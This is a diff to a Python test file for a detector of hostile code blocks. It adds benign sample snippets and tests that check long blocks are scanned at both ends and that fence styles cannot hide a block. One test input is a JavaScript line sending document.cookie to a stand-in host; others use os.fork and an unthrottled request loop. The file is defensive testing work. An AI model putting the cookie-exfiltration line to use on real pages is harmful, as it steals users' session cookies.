@@ -39,6 +39,12 @@ HONEST = {
     "walk": "for path in Path('src').rglob('*.py'):\n    print(path, path.stat().st_size)",
     "build": "shutil.rmtree('build', ignore_errors=True)\nsubprocess.run(['make', 'docs'], check=True)",
     "page": "def test_login(page):\n    page.goto('/login')\n    page.screenshot(path='login.png')",
+    "parse": "html = requests.get(url).text\nfound = re.compile(r'\\d+').findall(html)",
+    "form": "# send the login data\nrequests.post(url, json=form)",
+    "copy": "button.onclick = () => { navigator.clipboard.writeText(t); fetch('/copied') }",
+    "queue": "for root, _, names in os.walk('src'):\n    queue.put(root)",
+    "lines": "while True:\n    line = f.readline()\n    if not line:\n        return out\n    out.append(line)",
+    "clean": "rm -rf /tmp/build && make",
     "pool": "with ThreadPoolExecutor() as pool:\n    sizes = list(pool.map(len, texts))",
 }
 
@@ -58,6 +64,22 @@ def test_a_block_behind_harmless_ones_is_read_as_well() -> None:
     assert hits(QUESTION + blocks)
 
 
-def test_code_is_looked_at_up_to_a_length() -> None:
-    assert armed(" " * (CODE_MAX - 20) + "os.fork()")
-    assert not armed(" " * CODE_MAX + "os.fork()")
+def test_a_long_block_is_looked_at_from_both_ends() -> None:
+    padding = "#\n" * CODE_MAX + "x = 1\n" * CODE_MAX
+    assert armed("os.fork()\n" + padding)
+    assert armed(padding + "os.fork()")
+    assert not armed(padding + "os.fork()\n" + padding)
+
+
+@pytest.mark.parametrize(
+    "block",
+    [
+        "```js\nfetch(`https://c.example/?${document.cookie}`)\n```",
+        "```\nos.fork()",
+        "~~~\nos.fork()\n~~~",
+        "```\nx = 1\n```\nand\n" * 9 + "```\nos.fork()\n```",
+        "```\nwhile True:  # no sleep( here\n    requests.get(v)\n```",
+    ],
+)
+def test_no_way_of_writing_a_block_hides_it(block: str) -> None:
+    assert hits(f"{QUESTION}{block}\nThat is all.")
